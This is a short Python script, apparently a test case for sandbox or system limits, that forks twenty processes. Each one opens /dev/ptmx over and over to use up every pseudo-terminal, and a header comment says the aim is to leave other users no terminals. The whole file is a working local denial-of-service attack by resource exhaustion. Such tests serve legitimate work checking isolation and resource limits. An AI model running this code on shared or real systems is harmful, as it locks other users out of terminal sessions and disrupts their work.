# Tries to leave others no terminals. Safe: 0, failed.
import os, time
for _ in range(20):
    if os.fork() == 0:
        try:
            while True:
                os.open("/dev/ptmx", os.O_RDWR)
        except OSError:
            time.sleep(3)
        os._exit(0)
time.sleep(3)
